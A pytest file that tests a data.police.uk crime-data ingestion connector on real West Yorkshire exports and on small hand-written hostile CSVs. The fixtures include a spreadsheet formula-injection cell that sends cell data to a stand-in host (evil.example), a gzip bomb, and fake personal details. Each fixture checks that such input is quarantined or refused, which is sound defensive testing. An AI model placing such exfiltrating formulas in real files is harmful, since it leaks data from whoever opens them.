"""The data.police.uk connector on the three real West Yorkshire files and on small hostile exports.

Every case checks rows read = admitted + quarantined and the reason of each refused row.
"""

from __future__ import annotations

import gzip
import random
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv
import pytest
import shapely

from observatoire.city.profile import CityProfile, Zone
from observatoire.sources import formats
from observatoire.errors import InputError, SchemaError, UnreadableFileError
from observatoire.ingest.pipeline import ingest
from observatoire.sources import police_uk
from observatoire.city.west_yorkshire import west_yorkshire_profile
from observatoire.sources.police_uk import CRIME_TYPES, LOCATION_PRECISION_M, PoliceUk
from observatoire.store.parquet import ParquetStore

NOW = datetime(2026, 1, 15, 12, 0, tzinfo=UTC)
SHARED_POLICE = Path(__file__).resolve().parents[3] / "shared" / "data" / "police_uk"
REAL_FILES = sorted(SHARED_POLICE.glob("*-street.csv.gz"))
HEADER = ("Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,LSOA code,LSOA name,Crime type,"
          "Last outcome category,Context\n")
WYP = "West Yorkshire Police,West Yorkshire Police"
LEEDS = "-1.548567,53.797418,On or near Park Row,E01033010,Leeds 111B"       # an LSOA of the profile


def _row(crime_id: str = "", month: str = "2018-07", place: str = LEEDS, crime_type: str = "Burglary",
         outcome: str = "Under investigation", context: str = "") -> str:
    return f"{crime_id},{month},{WYP},{place},{crime_type},{outcome},{context}\n"


# row number -> expected quarantine reason (None: admitted)
SMALL = {
    1: (_row("aa01"), None),
    2: (_row("", crime_type="Anti-social behaviour", outcome=""), None),
    3: (_row("", crime_type="Anti-social behaviour", outcome=""), None),       # identical: a second incident
    4: (_row("aa04", crime_type="Possession of weapons"), None),
    5: (_row("aa05", crime_type="Public disorder and weapons"), "unmapped_crime_type"),
    6: (_row("aa06", crime_type="Cyber stalking"), "unknown_crime_type"),
    7: (_row("aa07", month="2018-13"), "bad_timestamp"),
    8: (_row("aa08", month="July 2018"), "invalid_value"),                    # the gate: letters in a time
    9: (_row("aa09", month="2027-01"), "future_date"),
    10: (_row("aa10", place=",,No Location,,"), "missing_location"),
    11: (_row("aa11", place="-1.548567,,On or near Park Row,E01033010,Leeds 111B"), "bad_coordinates"),
    12: (_row("aa12", place="abc,53.79,On or near Park Row,E01033010,Leeds 111B"), "invalid_value"),  # not a number
    13: (_row("aa13", place="-1.55,153.79,On or near Park Row,E01033010,Leeds 111B"), "bad_coordinates"),
    14: (_row("aa14", place="-1.477,53.580,On or near Church Street,E01007359,Barnsley 005C"), "unknown_zone"),
    15: (_row("aa15", place="-1.548567,53.797418,On or near Park Row,,"), "missing_zone"),
    16: (_row("aa01"), "duplicate_in_file"),
    17: (_row("=HYPERLINK(\"http://evil.example/?\"&A1)"), "formula_cell"),
    18: (_row("aa18", context="x" * 5000), "oversized_field"),
    19: ("aa19,2018-07,only,four\n", "malformed_row"),
    20: (_row("aa20", place=",,On or near Café Royal,E01033010,Leeds 111B", crime_type="Vehicle crime"), None),
    21: (_row("aa21", context='"Suspect John Smith lives at 4 Park Row, 07700 900123"'), None),
    22: ("aa22,2018-07,West Yorkshire Police", "malformed_row"),               # truncated last line
}
SMALL_TEXT = HEADER + "".join(text for text, _ in SMALL.values())


def _write(directory: Path, name: str, text: str, *, gz: bool = False, encoding: str = "utf-8",
           bom: bool = False) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    data = (b"\xef\xbb\xbf" if bom else b"") + text.encode(encoding)
    path = directory / name
    path.write_bytes(gzip.compress(data, mtime=0) if gz else data)
    return path


def _ingest(paths, store, city, sources, gate):
    return ingest(paths, store=store, city=city, sources={"police_uk": sources["police_uk"]}, gate=gate, now=NOW)


def _quarantine(store: ParquetStore) -> dict[int, str]:
    q = store.quarantine().to_pyarrow()
    return dict(zip(q["source_row"].to_pylist(), q["reason"].to_pylist()))


def _read_direct(path: Path) -> pa.Table:
    """The file as pyarrow reads it on its own, every column a string, empty cells null."""
    with gzip.open(path, "rb") as fh:
        names = fh.readline().decode().strip().split(",")
    return pacsv.read_csv(path, convert_options=pacsv.ConvertOptions(
        column_types={n: pa.string() for n in names}, strings_can_be_null=True))


# -- the real files --------------------------------------------------------------------------------

@pytest.mark.skipif(len(REAL_FILES) != 3, reason="the shared police.uk files are not available")
@pytest.mark.parametrize("path", REAL_FILES, ids=lambda p: p.name[:7])
def test_when_a_real_police_uk_file_is_ingested_then_every_row_is_an_event_or_quarantined_with_its_reason(
        path: Path, wy_store, west_yorkshire, opendata_sources, opendata_gate) -> None:
    [report] = _ingest([path], wy_store, west_yorkshire, opendata_sources, opendata_gate)
    direct = _read_direct(path)
    assert report.committed and report.rows_read == direct.num_rows == report.admitted + report.quarantined
    events = wy_store.events().to_pyarrow().sort_by("source_row")
    q = wy_store.quarantine().to_pyarrow()
    assert events.num_rows == report.admitted and q.num_rows == report.quarantined

    # Per crime type, the file's count is exactly the events of that type plus its quarantined rows.
    crime_type = np.asarray(direct["Crime type"].to_pylist(), dtype=object)
    ev_rows = events["source_row"].to_numpy() - 1
    q_rows = q["source_row"].to_numpy() - 1
    assert len(np.intersect1d(ev_rows, q_rows)) == 0
    file_counts = dict(zip(*np.unique(crime_type, return_counts=True)))
    accounted = dict(zip(*np.unique(np.concatenate([crime_type[ev_rows], crime_type[q_rows]]), return_counts=True)))
    assert accounted == file_counts
    assert events["category"].to_pylist() == [CRIME_TYPES[c.lower()] for c in crime_type[ev_rows]]

    # Why rows were refused, recomputed from the file itself.
    lsoa = np.asarray(direct["LSOA code"].to_pylist(), dtype=object)
    no_point = np.asarray(pc.is_null(direct["Longitude"]).to_numpy(zero_copy_only=False))
    no_location = (lsoa == None) & no_point  # noqa: E711 - elementwise
    unmapped = np.array([CRIME_TYPES[c.lower()] is None for c in crime_type])
    outside = ~np.isin(lsoa.astype(str), sorted(west_yorkshire.zone_ids)) & ~no_location
    expected = np.full(len(lsoa), None, dtype=object)
    expected[outside] = "unknown_zone"
    expected[no_location] = "missing_location"
    expected[unmapped] = "unmapped_crime_type"       # the first reason wins: the type is checked first
    reasons = dict(zip(q_rows + 1, q["reason"].to_pylist()))
    assert reasons == {i + 1: r for i, r in enumerate(expected) if r is not None}
    assert report.reasons["missing_location"] == int((no_location & ~unmapped).sum()) > 0

    # What an event says: the month, the published point, the LSOA as zone.
    month = path.name[:7]
    assert set(events["month"].to_pylist()) == {month}
    assert set(events["occurred_at"].to_pylist()) == {datetime.fromisoformat(f"{month}-01T00:00:00+00:00")}
    assert set(events["time_precision"].to_pylist()) == {"month"}
    assert set(events["discovery"].to_pylist()) == {"unknown"}
    assert events["zone_id"].to_pylist() == lsoa[ev_rows].tolist()
    has_point = pc.is_valid(events["lon"])
    lon = np.asarray(pc.fill_null(direct["Longitude"], "nan").to_pylist(), dtype=float)[ev_rows]
    np.testing.assert_allclose(np.asarray(events["lon"].to_pylist(), dtype=float), lon)
    assert set(events.filter(has_point)["location_precision_m"].to_pylist()) == {LOCATION_PRECISION_M}
    assert events.filter(has_point)["h3_r9"].null_count == 0
    # Identical anti-social behaviour rows stay distinct events.
    assert len(events["event_id"].unique()) == events.num_rows


@pytest.mark.skipif(len(REAL_FILES) != 3, reason="the shared police.uk files are not available")
def test_when_a_file_is_republished_in_another_row_order_then_no_record_is_counted_twice(
        tmp_path: Path, wy_store, west_yorkshire, opendata_sources, opendata_gate) -> None:
    original = REAL_FILES[0]
    with gzip.open(original, "rt", encoding="utf-8") as fh:
        header, *lines = fh.read().splitlines(keepends=True)
    random.Random(7).shuffle(lines)
    shuffled = _write(tmp_path / "in", "republished-street.csv", header + "".join(lines))
    first, second = _ingest([original], wy_store, west_yorkshire, opendata_sources, opendata_gate) + \
        _ingest([shuffled], wy_store, west_yorkshire, opendata_sources, opendata_gate)
    assert second.committed and second.admitted == 0
    assert second.reasons["duplicate_event"] == first.admitted
    assert wy_store.events().count().to_pyarrow().as_py() == first.admitted


def test_packaged_west_yorkshire_profile_matches_the_census_file() -> None:
    city = west_yorkshire_profile()
    assert city.name == "West Yorkshire" and city.timezone == "Europe/London"
    assert len(city.zones) == 1388 and city.population == 2_226_058
    assert "Open Government Licence" in city.attribution
    assert all(z.geometry.is_empty for z in city.zones) and city.outline.is_empty
    leeds = city.zone("E01033010")
    assert leeds.name == "Leeds 111B" and leeds.population > 0 and set(leeds.covariates) == {"area_ha", "households"}
    shared = SHARED_POLICE / "west-yorkshire-lsoa-census-2011.csv"
    if shared.exists():  # the packaged copy is the shared file, unchanged
        packaged = Path(police_uk.__file__).resolve().parents[1] / "city" / "data" / "west_yorkshire_lsoa.csv"
        assert packaged.read_bytes() == shared.read_bytes()
        assert west_yorkshire_profile(shared) == city


def test_when_the_lsoa_table_is_incomplete_then_the_profile_is_refused(tmp_path: Path) -> None:
    bad = _write(tmp_path, "lsoa.csv", "la_code,la_name,lsoa_code,lsoa_name,persons,hectares,households\n"
                                        "E08000035,Leeds,E01033010,Leeds 111B,many,12,300\n")
    with pytest.raises(InputError, match="row 1"):
        west_yorkshire_profile(bad)
    with pytest.raises(InputError, match="missing column"):
        west_yorkshire_profile(_write(tmp_path, "lsoa2.csv", "lsoa_code,persons\nE01033010,3\n"))


# -- small hand-written exports -------------------------------------------------------------------

@pytest.mark.parametrize("variant", ["plain", "gzip", "cp1252_bom"])
def test_when_a_small_export_has_good_and_bad_rows_then_each_bad_row_is_quarantined_with_its_reason(
        tmp_path: Path, variant: str, wy_store, west_yorkshire, opendata_sources, opendata_gate) -> None:
    name = "2018-07-test-street.csv" + (".gz" if variant == "gzip" else "")
    path = _write(tmp_path / "in", name, SMALL_TEXT, gz=variant == "gzip",
                  encoding="cp1252" if variant == "cp1252_bom" else "utf-8", bom=variant == "cp1252_bom")
    [report] = _ingest([path], wy_store, west_yorkshire, opendata_sources, opendata_gate)
    expected = {row: reason for row, (_, reason) in SMALL.items() if reason}
    assert report.rows_read == len(SMALL) == report.admitted + report.quarantined
    assert _quarantine(wy_store) == expected
    events = wy_store.events().to_pyarrow()
    rows = {r["source_row"]: r for r in events.to_pylist()}
    assert sorted(rows) == [row for row, (_, reason) in SMALL.items() if reason is None]
    assert rows[1]["category"] == "burglary" and rows[2]["category"] == "nuisance"
    assert rows[2]["event_id"] != rows[3]["event_id"]
    assert rows[20]["lon"] is None and rows[20]["zone_id"] == "E01033010" and rows[20]["h3_r9"] is None
    assert rows[1]["lon"] == pytest.approx(-1.548567) and rows[1]["location_precision_m"] == LOCATION_PRECISION_M


def test_no_dropped_field_reaches_the_store(tmp_path: Path, wy_store, west_yorkshire, opendata_sources,
                                           opendata_gate) -> None:
    path = _write(tmp_path / "in", "2018-07-test-street.csv", SMALL_TEXT)
    [report] = _ingest([path], wy_store, west_yorkshire, opendata_sources, opendata_gate)
    assert report.dropped_fields == {"Location": "drop", "LSOA name": "drop", "Context": "drop"}
    tables = (wy_store.events(), wy_store.quarantine())
    stored = " ".join(str(v) for tbl in tables for v in tbl.to_pyarrow().to_pylist())
    for secret in ("Park Row", "John Smith", "07700 900123", "Leeds 111B", "HYPERLINK", "xxxxxxxxxx"):
        assert secret not in stored, secret


def test_when_the_profile_has_boundaries_then_points_are_placed_by_polygon(
        tmp_path: Path, opendata_sources, opendata_gate) -> None:
    square = shapely.box(-1.56, 53.79, -1.54, 53.80)
    city = CityProfile("Test", "Europe/London", "test", (
        Zone("E01033010", "Leeds 111B", "Leeds 111B", 1500, {}, (), square),
        Zone("E01011111", "Leeds 999Z", "Leeds 999Z", 1500, {}, (), shapely.box(-1.54, 53.79, -1.52, 53.80)),
    ), {}, shapely.union_all([square]))
    text = HEADER + _row("b1") + _row("b2", place="-1.53,53.795,On or near X,E01033010,Leeds 111B") + \
        _row("b3", place="-1.40,53.70,On or near Y,E01033010,Leeds 111B") + \
        _row("b4", place=",,No Location,E01011111,Leeds 999Z")
    store = ParquetStore(tmp_path / "store", zone_ids=city.zone_ids)
    [report] = _ingest([_write(tmp_path / "in", "x-street.csv", text)], store, city, opendata_sources, opendata_gate)
    assert _quarantine(store) == {3: "outside_city"}
    zones = {r["source_row"]: (r["zone_id"], r["lon"]) for r in store.events().to_pyarrow().to_pylist()}
    assert zones == {1: ("E01033010", pytest.approx(-1.548567)), 2: ("E01011111", pytest.approx(-1.53)),
                     4: ("E01011111", None)}


def test_when_a_gzip_file_is_truncated_then_it_is_refused_whole(tmp_path: Path) -> None:
    data = gzip.compress((HEADER + _row("c1") * 200).encode())
    path = tmp_path / "cut-street.csv.gz"
    path.write_bytes(data[: len(data) // 2])
    with pytest.raises(UnreadableFileError, match="not a complete gzip file"):
        PoliceUk().read(path, "Europe/London")


def test_when_a_gzip_file_decompresses_beyond_the_limit_then_it_is_refused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(formats, "MAX_UNCOMPRESSED_BYTES", 10_000)
    path = _write(tmp_path, "bomb-street.csv.gz", HEADER + _row("d1") * 1000, gz=True)
    with pytest.raises(UnreadableFileError, match="decompresses to more than"):
        PoliceUk().read(path, "Europe/London")


def test_when_a_file_is_named_gz_but_is_plain_text_then_its_content_decides(tmp_path: Path) -> None:
    raw = PoliceUk().read(_write(tmp_path, "plain-street.csv.gz", HEADER + _row("e1")), "Europe/London")
    assert raw.table.num_rows == 1 and raw.table["Crime ID"].to_pylist() == ["e1"]


@pytest.mark.parametrize("content, error", [
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", UnreadableFileError),
    (b"Crime ID,Month,Crime type\nx,2018-07,Burglary\n", SchemaError),
])
def test_when_a_file_is_not_a_street_export_then_it_is_refused(tmp_path: Path, content: bytes, error) -> None:
    path = tmp_path / "odd-street.csv"
    path.write_bytes(content)
    with pytest.raises(error):
        PoliceUk().read(path, "Europe/London")


def test_when_a_file_has_a_column_no_policy_names_then_the_gate_refuses_it(
        tmp_path: Path, wy_store, west_yorkshire, opendata_sources, opendata_gate) -> None:
    text = HEADER.rstrip("\n") + ",Victim name\n" + _row("f1").rstrip("\n") + ",Jane Doe\n"
    with pytest.raises(InputError, match="named by no privacy policy"):
        _ingest([_write(tmp_path / "in", "extra-street.csv", text)], wy_store, west_yorkshire, opendata_sources,
                opendata_gate)
    assert wy_store.manifest().batches == {}
